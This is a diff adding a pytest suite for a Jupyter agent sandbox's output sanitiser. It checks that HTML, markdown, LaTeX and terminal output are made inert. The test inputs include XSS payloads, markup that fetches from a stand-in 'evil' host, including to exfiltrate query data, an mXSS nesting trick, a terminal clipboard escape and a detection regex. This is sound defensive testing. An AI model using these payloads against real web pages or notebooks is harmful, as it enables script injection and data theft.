@@ -1,0 +1,190 @@
+"""The filter at the border: hostile messages in, inert outputs out."""
+
+from __future__ import annotations
+
+import re
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from jupyter_agent.sandbox.outputs import clean_markdown, printable, read_output
+
+
+def bundle(**data: object) -> dict[str, Any]:
+    content = {"data": {k.replace("_", "/", 1): v for k, v in data.items()}, "metadata": {}}
+    output = read_output("display_data", content)
+    assert output is not None
+    return dict(output.data)
+
+
+def html(source: str) -> str:
+    return str(bundle(text_html=source)["text/html"])
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "<img src='http://evil/x.png'>",
+        "<img src='//evil/x.png' srcset='//evil/y.png 2x'>",
+        "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
+        "<svg onload=alert(1)><image href='//evil'/></svg>",
+        "<iframe src='//evil'></iframe>",
+        "<object data='//evil'></object><embed src='//evil'>",
+        "<link rel=stylesheet href='//evil'><meta http-equiv=refresh content='0;url=//evil'>",
+        "<style>@import '//evil'; td {background: url(//evil)}</style>",
+        "<p style='background: url(//evil)'>x</p>",
+        "<p style='color: red; background-image: url(//evil)'>x</p>",
+        "<p style='color: \\75rl(//evil)'>x</p>",
+        "<form action='//evil'><input name=a><button>b</button></form>",
+        "<a href='http://evil/?d=1'>x</a><a href='javascript:alert(1)'>y</a>",
+        "<video src='//evil' poster='//evil'></video><audio src='//evil'></audio>",
+        "<button data-commandlinker-command='x' data-commandlinker-args='{}'>b</button>",
+        "<table background='//evil'><td background='//evil' onclick='x()'>1</td></table>",
+        "<math><mtext><table><mglyph><style><img src='//evil' onerror=x>",
+        "<base href='//evil'><p class='jp-Button' id='x'>x</p>",
+    ],
+)
+def test_html_that_runs_or_fetches_is_taken_apart(source: str) -> None:
+    cleaned = html(source)
+    dangerous = r"(?i)<script|onerror|onload|onclick|evil|javascript:|data-|<form|<input|<style|url\(|jp-|<svg|id="
+    assert not re.search(dangerous, cleaned), cleaned
+
+
+def test_a_table_keeps_its_looks() -> None:
+    source = (
+        '<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th>'
+        '<th colspan="2">a</th></tr></thead><tbody><tr><td style="color: red">1</td></tr></tbody></table>'
+    )
+    cleaned = html(source)
+    for kept in ('class="dataframe"', "text-align:right", 'colspan="2"', "color:red"):
+        assert kept in cleaned
+
+
+def test_a_picture_inside_html_stays() -> None:
+    source = '<img src="data:image/png;base64,iVBORw0KGgo=" width="20">'
+    assert 'src="data:image/png;base64,iVBORw0KGgo="' in html(source)
+
+
+@pytest.mark.parametrize(
+    "mime",
+    [
+        "application/javascript",
+        "application/vnd.jupyter.widget-view+json",
+        "application/vnd.jupyter.es-module+json",
+        "image/svg+xml",
+        "text/x-unheard-of",
+    ],
+)
+def test_what_is_not_on_the_white_list_is_named_and_dropped(mime: str) -> None:
+    content = {"data": {mime: "window.PWNED = 1", "text/plain": "x"}, "metadata": {mime: {"a": 1}}}
+    output = read_output("display_data", content)
+    assert output is not None
+    assert set(output.data) == {"text/plain"}
+    assert f"[{mime} may not leave the sandbox]" in output.data["text/plain"]
+    assert output.metadata == {}
+
+
+def test_plain_text_is_always_there() -> None:
+    assert "text/plain" in bundle(text_html="<b>x</b>")
+
+
+def test_metadata_keeps_the_size_of_a_picture_and_nothing_else() -> None:
+    content = {
+        "data": {"image/png": "iVBORw0KGgo="},
+        "metadata": {"image/png": {"width": 10, "x": {"y": 1}}, "jupyter_agent": {"op": "cell"}},
+    }
+    output = read_output("display_data", content)
+    assert output is not None
+    assert output.metadata == {"image/png": {"width": 10}}
+
+
+def test_tex_that_writes_html_is_defused() -> None:
+    tex = r"\style{background:url(//evil)}{x} \href{//evil}{y} \frac{1}{2}"
+    for source in (bundle(text_latex=tex)["text/latex"], clean_markdown(f"${tex}$"), html(f"${tex}$")):
+        assert r"\style" not in source
+        assert r"\href" not in source
+        assert r"\frac" in source
+
+
+@pytest.mark.parametrize(
+    ("kind", "content"),
+    [
+        ("stream", {"name": "stdout"}),
+        ("stream", {"name": "stdout", "text": ["a"]}),
+        ("stream", {"name": "/etc/passwd", "text": "a"}),
+        ("stream", "text"),
+        ("stream", None),
+        ("error", {"ename": 1, "evalue": "", "traceback": []}),
+        ("error", {"ename": "", "evalue": "", "traceback": [1]}),
+        ("display_data", {"data": []}),
+        ("display_data", {"data": {"text/plain": {"a": 1}}}),
+        ("display_data", {"data": {"image/png": "<script>"}}),
+        ("display_data", {"data": {}, "metadata": []}),
+        ("execute_result", {"data": {"text/plain": "x"}, "transient": 3}),
+    ],
+)
+def test_a_malformed_message_is_a_value_error(kind: str, content: object) -> None:
+    with pytest.raises(ValueError, match="."):
+        read_output(kind, content)
+
+
+def test_json_nested_too_deep_is_a_value_error() -> None:
+    deep: object = 1
+    for _ in range(100):
+        deep = [deep]
+    with pytest.raises(ValueError, match="nested deeper"):
+        bundle(application_json=deep)
+
+
+def test_comms_and_inputs_are_no_outputs() -> None:
+    for kind in ("comm_open", "comm_msg", "input_request", "execute_input", "status", "made_up"):
+        assert read_output(kind, {"data": {}}) is None
+
+
+def test_a_display_id_is_kept_for_updates() -> None:
+    content = {"data": {"text/plain": "x"}, "transient": {"display_id": "a"}}
+    output = read_output("update_display_data", content)
+    assert output is not None
+    assert (output.output_type, output.transient.display_id) == ("update_display_data", "a")
+
+
+def test_text_for_a_terminal_keeps_colours_and_obeys_nothing() -> None:
+    text = "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]52;c;aGk=\x1b\\ \x1b[2J\x1b[1;1H \x9b31m \x08\rx\ty\n"
+    assert printable(text) == "\x1b[31mred\x1b[0m      31m \x08\rx\ty\n".replace("      ", "    ")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "![x](http://evil/?d=1)",
+        "![x][ref]\n\n[ref]: http://evil/x.png",
+        "<img src=http://evil/x.png>",
+        "text <script>alert(1)</script>",
+        "<!-- x --><iframe src=//evil>",
+        "`unclosed ![x](http://evil)",
+    ],
+)
+def test_markdown_makes_no_browser_fetch(source: str) -> None:
+    from markdown_it import MarkdownIt
+
+    tokens = MarkdownIt("commonmark").parse(clean_markdown(source))
+    inner = [child for token in tokens for child in token.children or ()]
+    assert not [t for t in [*tokens, *inner] if t.type in ("image", "html_block", "html_inline")]
+
+
+def test_markdown_keeps_what_is_harmless() -> None:
+    source = "# T\n\n**b** `<i>` a < b, $x^2$ [link](http://a)\n\n```html\n<b>![x](y)</b>\n```\n"
+    assert clean_markdown(source) == source
+
+
+@given(st.recursive(st.none() | st.booleans() | st.integers() | st.text(), lambda x: st.lists(x) | st.dictionaries(st.sampled_from(["data", "metadata", "text", "name", "text/html", "text/plain", "transient", "ename", "traceback"]), x)), st.sampled_from(["stream", "error", "display_data", "execute_result", "update_display_data"]))
+def test_any_content_is_an_output_or_a_value_error(content: object, kind: str) -> None:
+    try:
+        output = read_output(kind, content)
+    except ValueError:
+        return
+    assert output is not None
